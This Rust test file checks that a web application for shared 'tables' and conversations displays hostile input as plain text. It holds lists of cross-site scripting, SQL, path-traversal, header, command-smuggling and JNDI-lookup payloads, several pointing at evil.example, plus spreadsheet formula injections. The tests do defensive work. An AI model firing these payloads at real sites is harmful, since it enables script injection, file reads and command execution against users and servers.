//! Words that try to be something else stay words, wherever they are put.

use std::collections::BTreeMap;

use serde_json::{Value, json};
use support::crawl::crawl;
use support::html::{tags, words};
use support::http::Reply;
use support::people::{Person, number, offer};

use crate::place::{Place, plain_form};
use crate::routes::{all, at, is_the_way_out};

/// Each tries one way out of a text, of an attribute, of a comment, of a style, of JSON or of a file.
const SCRIPTS: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><script src=//evil.example></script>",
    "'><img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    "</title><script>alert(4)</script>",
    "</textarea><b onmouseover=alert(5)>x</b>",
    "\" autofocus onfocus=alert(6) x=\"",
    "' style='background:url(//evil)' x='",
    "<a href=\"javascript:alert(7)\">x</a>",
    "--><iframe srcdoc=\"<b>8</b>\">",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;//evil\">",
    "{{constructor.constructor('alert(9)')()}}",
    "&lt;script&gt;alert(10)&lt;/script&gt;",
];

/// What other programs have stumbled over.
const INJECTIONS: [&str; 16] = [
    "' OR 1=1 --",
    "\"; DROP TABLE journal; --",
    "1 UNION SELECT body FROM content",
    "1;SELECT pg_sleep(10)",
    "../../../../etc/passwd",
    "..\\..\\house.key",
    "/dev/null",
    "%00",
    "\u{0}",
    "a\r\nSet-Cookie: seat-x=1",
    "$(sleep 10)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "-1",
    "99999999999999999999999",
];

/// Nothing on the page acts that we did not put there.
#[track_caller]
fn is_harmless(reply: &Reply, what: &str) {
    let kind = reply.header("content-type").unwrap_or("text/plain");
    if !kind.starts_with("text/html") {
        // A browser that is told not to guess shows these as they are, or saves them.
        assert_eq!(reply.header("x-content-type-options"), Some("nosniff"), "{what}");
        let known = [
            "text/plain",
            "text/csv; charset=utf-8",
            "text/css; charset=utf-8",
            "text/event-stream",
            "application/json",
            "application/atom+xml; charset=utf-8",
            "application/pdf",
            "application/octet-stream",
        ];
        assert!(known.iter().any(|known| kind.starts_with(known)), "{what} is {kind}");
        return;
    }
    let page = reply.text();
    for payload in SCRIPTS.iter().filter(|payload| payload.contains('<')) {
        assert!(!page.contains(payload), "{what} shows {payload} raw");
    }
    for tag in tags(&page) {
        let forbidden = ["iframe", "object", "embed", "base", "frame", "applet", "style"];
        assert!(!forbidden.contains(&tag.name.as_str()), "{what} has a {}", tag.name);
        assert!(tag.name != "!" || page.starts_with("<!DOCTYPE html>"), "{what} has a comment");
        if tag.name == "script" {
            assert!(tag.attribute("src").is_some_and(|from| from.starts_with("/assets/")), "{what}: {tag:?}");
        }
        if tag.name == "meta" {
            assert_eq!(tag.attribute("http-equiv"), None, "{what}: {tag:?}");
        }
        for (name, value) in &tag.attributes {
            assert!(!name.starts_with("on"), "{what} has {name}={value} on {}", tag.name);
            assert!(
                !matches!(name.as_str(), "style" | "srcdoc" | "autofocus"),
                "{what} has {name} on {}",
                tag.name
            );
            if matches!(name.as_str(), "href" | "src" | "action" | "formaction") {
                let ours = value.starts_with(['/', '#', '?']) && !value.starts_with("//");
                let plain = value.starts_with("https://")
                    || value.starts_with("http://")
                    || value.starts_with("mailto:");
                assert!(ours || plain || value.is_empty(), "{what} leads to {value}");
                assert!(!value.contains("evil"), "{what} leads to {value}");
            }
        }
    }
}

/// A table with hostile words in every field anybody can fill in; gives each field's words.
fn poisoned(person: &mut Person) -> (String, BTreeMap<String, String>) {
    let mut said = BTreeMap::new();
    let mut at = 0;
    let mut next = |field: &str, most: usize| {
        let mut following = SCRIPTS[at % SCRIPTS.len()..].iter().chain(&SCRIPTS);
        let payload = following.find(|payload| payload.len() <= most).unwrap();
        at += 1;
        said.insert(field.to_owned(), (*payload).to_owned());
        (*payload).to_owned()
    };
    let set = json!({
        "table_name": next("table_name", 80), "purpose": next("purpose", 600), "agreement": next("agreement", 4000),
        "findable": "public", "starter": "blank",
    });
    let answer = person.done("POST", "/api/v1/tables", &set);
    person.use_token(answer["token"].as_str());
    let table = answer["table"].as_str().unwrap().to_owned();
    let root = format!("/api/v1/tables/{table}");
    let mut poison = |offer: Value| {
        let mut offer = offer;
        for (name, value) in offer.as_object_mut().unwrap() {
            if !matches!(name.as_str(), "by_when" | "hear_back") {
                *value = json!(next(name, 200));
            }
        }
        offer
    };
    let opened = person.done("POST", &format!("{root}/conversations"), &poison(offer("?")));
    let conversation = format!("{root}/conversations/{}", number(&opened, "conversation"));
    let changed = poison(offer("?"));
    let change = json!({ "over": 1, "offer": changed, "why": next("offer_why", 280) });
    person.done("POST", &format!("{conversation}/offer"), &change);
    let change =
        json!({ "over": 1, "agreement": next("agreement_2", 4000), "why": next("agreement_why", 280) });
    person.done("POST", &format!("{root}/agreement"), &change);
    person.done("POST", &format!("{conversation}/marks"), &json!({ "mark": next("mark", 280) }));
    person.done("PUT", &format!("{root}/me/name"), &json!({ "name": next("name", 40) }));
    let brought = json!({ "strengths": [], "own_strength": next("own_strength", 140) });
    person.done("PUT", &format!("{root}/me/strengths"), &brought);
    for (index, payload) in SCRIPTS.iter().enumerate() {
        let statement = person.say(&conversation, payload);
        let reason =
            json!({ "choice": "disagree", "matters": true, "reason": SCRIPTS[SCRIPTS.len() - 1 - index] });
        person.done("PUT", &format!("{conversation}/statements/{statement}/response"), &reason);
    }
    (table, said)
}

#[test]
fn words_in_every_field_are_shown_as_words() {
    let place = Place::open();
    let mut person = Person::new(place.server.address(), "poison");
    let (table, said) = poisoned(&mut person);
    let mut inside = place.client();
    inside.set_cookie(&format!("seat-{table}"), person.token().unwrap());
    let from = [format!("/t/{table}"), "/".to_owned(), "/me".to_owned(), format!("/t/{table}/me")];
    let mut pages = crawl(&mut inside, &from);
    for (path, reply) in crawl(&mut place.client(), &from) {
        pages.insert(format!("{path} (from outside)"), reply);
    }
    assert!(pages.len() > 60, "only {} pages were found", pages.len());
    let mut shown = String::new();
    for (path, reply) in &pages {
        assert!(reply.status < 500, "{path}");
        is_harmless(reply, path);
        if reply.header("content-type") == Some("application/pdf") {
            // Its letters are drawn, not written: the same paper comes as a page, too.
            continue;
        }
        shown.push_str(&words(&reply.text()));
        shown.push_str(&support::html::decode(&reply.text()));
    }
    // The words are there to be read, letter by letter: nothing was cut out of them.
    for (field, payload) in said {
        assert!(shown.contains(&payload), "{field} is shown nowhere as {payload}");
    }
}

#[test]
fn words_in_addresses_and_questions_are_not_repeated_raw_and_break_nothing() {
    let place = Place::open();
    let mut client = place.client();
    client.set_cookie(&format!("seat-{}", place.table), place.person.token().unwrap());
    let names =
        ["q", "page", "from", "limit", "sort", "order", "code", "statement", "saved", "next", "show", "text"];
    let hostile: Vec<String> = SCRIPTS.iter().chain(&INJECTIONS).map(|payload| encoded(payload)).collect();
    let long = "a".repeat(8000);
    let odd = ["%FF%FE", "%", "%zz", "%C0%AE%C0%AE", long.as_str()];
    for pattern in all(&mut client).iter().filter(|pattern| !is_the_way_out(pattern)) {
        let path = at(pattern, &place.table);
        for payload in hostile.iter().map(String::as_str).chain(odd) {
            let question: Vec<String> = names.iter().map(|name| format!("{name}={payload}")).collect();
            let asked = format!("{path}?{}", question[..if payload.len() > 1000 { 1 } else { 12 }].join("&"));
            let reply = client.get(&asked).send();
            fine(&reply, &asked);
            if pattern.contains('{') && !payload.contains("%2F") {
                let into = fill_with(pattern, payload);
                fine(&client.get(&into).send(), &into);
            }
        }
    }
}

/// Not an error of ours, harmless, and leading nowhere else.
#[track_caller]
fn fine(reply: &Reply, what: &str) {
    assert!(reply.status < 500, "{what}: {}", reply.status);
    is_harmless(reply, what);
    assert!(reply.header("set-cookie").is_none(), "{what} sets a cookie");
    if let Some(to) = reply.header("location") {
        assert!(to.starts_with('/') && !to.starts_with("//"), "{what} leads to {to}");
    }
}

/// Every place in a pattern filled with the same thing.
fn fill_with(pattern: &str, payload: &str) -> String {
    let mut path = String::new();
    for piece in pattern.split('/').skip(1) {
        path.push('/');
        path.push_str(if piece.starts_with('{') { payload } else { piece });
    }
    path
}

fn encoded(text: &str) -> String {
    let hex: Vec<String> = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    hex.concat()
}

#[test]
fn words_in_forms_cookies_and_headers_break_nothing() {
    let place = Place::open();
    let mut client = place.client();
    let names = [
        "key",
        "code",
        "card",
        "table-name",
        "purpose",
        "agreement",
        "findable",
        "statement",
        "choice",
        "action",
        "seat-name",
        "request",
        "over",
        "why",
        "mark",
        "name",
        "own-strength",
        "strengths",
        "connections",
        "theme",
        "size",
        "more",
        "by-when",
        "hear-back",
        "how-many",
        "last-day",
        "reason",
        "matters",
        "words",
        "sure",
        "proposal",
        "would-do",
        "options",
        "budget",
        "decider",
        "decide-by",
        "sources",
        "closes",
        "review-on",
        "rules",
        "share",
        "quorum",
        "sides",
        "disagreement",
        "account-share",
        "stand",
        "place-0",
        "want",
        "rows",
        "who-0",
        "expected-0",
        "not-here",
        "places",
        "line",
        "before-1",
        "go",
        "reply",
        "not-quite",
        "missing",
        "from",
        "who",
        "promise",
        "promise-by",
        "kind",
        "news",
        "teller",
        "judgement",
    ];
    let token = place.person.token().unwrap();
    for pattern in all(&mut client) {
        let path = at(&pattern, &place.table);
        for payload in SCRIPTS.iter().chain(&INJECTIONS) {
            for (seated, key) in [(false, "abcdefghijkl"), (true, *payload)] {
                let mut fields: Vec<(&str, &str)> = names.iter().map(|name| (*name, *payload)).collect();
                fields[0].1 = key;
                let mut request = plain_form(&mut client, &path, &fields);
                // What would come true stays out of it: leaving, and getting out.
                if seated && !pattern.ends_with("/leave") {
                    request = request.header("Cookie", &format!("seat-{}={token}", place.table));
                }
                let reply = request.send();
                assert!(reply.status < 500, "POST {path} {payload}: {}", reply.status);
                is_harmless(&reply, &format!("POST {path} {payload}"));
            }
        }
    }
    let visible = |payload: &&&str| payload.bytes().all(|byte| (0x20..0x7f).contains(&byte));
    for payload in SCRIPTS.iter().chain(&INJECTIONS).filter(visible) {
        for (name, value) in [
            ("Cookie", format!("seat-{}={payload}; rt-look={payload}; {payload}=1", place.table)),
            ("Authorization", format!("Bearer {payload}")),
            ("Host", (*payload).to_owned()),
            ("X-Forwarded-Host", (*payload).to_owned()),
            ("Accept-Language", (*payload).to_owned()),
            ("If-None-Match", (*payload).to_owned()),
            ("Accept-Encoding", (*payload).to_owned()),
        ] {
            for path in ["/", "/settings", &format!("/t/{}/me", place.table), "/api/v1/tables"] {
                let reply = client.get(path).header(name, &value).send();
                assert!(reply.status < 500, "{path} {name}: {value}: {}", reply.status);
                is_harmless(&reply, &format!("{path} with {name}: {value}"));
            }
        }
    }
}

#[test]
fn files_outside_ours_are_out_of_reach() {
    let place = Place::open();
    let mut client = place.client();
    for path in [
        "/assets/../house.key",
        "/assets/../../etc/passwd",
        "/assets/..%2f..%2fetc%2fpasswd",
        "/assets/%2e%2e/%2e%2e/etc/passwd",
        "/assets/%252e%252e%252fetc%252fpasswd",
        "/assets/..%5c..%5cjournal.sqlite",
        "/assets//etc/passwd",
        "/assets/%00",
        "/assets/",
        "/assets/.",
        "/../../etc/passwd",
        "//etc/passwd",
        "/assets/file:///etc/passwd",
        "/.git/config",
        "/journal.sqlite",
    ] {
        let reply = client.get(path).send();
        assert!(matches!(reply.status, 400 | 404), "{path}: {}", reply.status);
        assert!(!reply.text().contains("root:"), "{path}");
    }
}

#[test]
fn links_come_from_what_a_host_name_can_be_and_never_from_a_forwarded_one() {
    let mut place = Place::open();
    let table = place.table.clone();
    let made = place.person.done(
        "POST",
        &format!("/api/v1/tables/{table}/invitations"),
        &json!({ "how_many": 5, "last_day": "2027-01-01" }),
    );
    assert!(made["code"].is_string(), "{made}");
    let cookie = format!("seat-{table}={}", place.person.token().unwrap());
    let page = format!("/t/{table}/invitations");
    let mut client = place.client();
    let mut shown = |host: &str| {
        let request = client.get(&page).header("Cookie", &cookie).header("X-Forwarded-Host", "evil.example");
        request
            .header("X-Forwarded-Proto", "https")
            .header("Forwarded", "host=evil.example")
            .header("Host", host)
            .send()
    };
    let ours = shown("round.local:8080");
    assert_eq!(ours.status, 200, "{}", ours.words());
    assert!(ours.text().contains("http://round.local:8080/j/"), "{}", ours.words());
    assert!(!ours.text().contains("evil"), "{}", ours.words());
    for odd in
        ["a\"><script>x</script>", "a/evil.example", "a@evil.example", "a evil.example", "evil.example?x="]
    {
        let reply = shown(odd);
        assert!(
            !reply.text().contains("evil") && !reply.text().contains("<script>x"),
            "{odd}: {}",
            reply.words()
        );
    }
}

#[test]
fn a_configured_address_is_the_only_one_in_links() {
    use support::Launch;
    let place =
        Place::launched(Launch::serve(crate::PROGRAM).arg("--public-url").arg("https://round.example"));
    let mut client = place.client();
    let form = client.get("/start/blank").send().form("/start/");
    let form = form.with("table-name", "T").with("purpose", "P").with("agreement", "A");
    let fields: Vec<(&str, &str)> =
        form.fields.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    let request = plain_form(&mut client, "/start/blank", &fields);
    let card = request.header("Host", "evil.example").header("X-Forwarded-Host", "evil.example").send();
    assert_eq!(card.status, 200, "{}", card.words());
    assert!(card.text().contains("round.example/back"), "{}", card.words());
    assert!(!card.text().contains("evil"), "{}", card.words());
}

#[test]
fn letters_that_hide_or_turn_others_are_taken_out_of_names() {
    let mut place = Place::open();
    let root = format!("/api/v1/tables/{}", place.table);
    let typed = "J\u{202e}o\u{200b}h\u{2066}n\u{feff}";
    place.person.done("PUT", &format!("{root}/me/name"), &json!({ "name": typed }));
    assert_eq!(place.person.read(&format!("{root}/me")).json()["name"], "John");
}

#[test]
fn formulas_are_words_in_a_spreadsheet() {
    let mut place = Place::open();
    let table = place.table.clone();
    let conversation = format!("/api/v1/tables/{table}/conversations/1");
    let formulas = [
        "=HYPERLINK(\"http://evil.example\",\"Click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
    ];
    for formula in formulas {
        place.person.say(&conversation, formula);
    }
    let file = place.client().get(&format!("/t/{table}/c/1/stand.csv")).send();
    assert_eq!(file.header("content-type"), Some("text/csv; charset=utf-8"));
    assert!(file.header("content-disposition").is_some_and(|how| how.starts_with("attachment")));
    let file = file.text();
    for formula in formulas {
        let quoted = formula.replace('"', "\"\"");
        assert!(file.contains(&format!(",\"'{quoted}\",")), "{formula} is not told from a formula in {file}");
    }
}
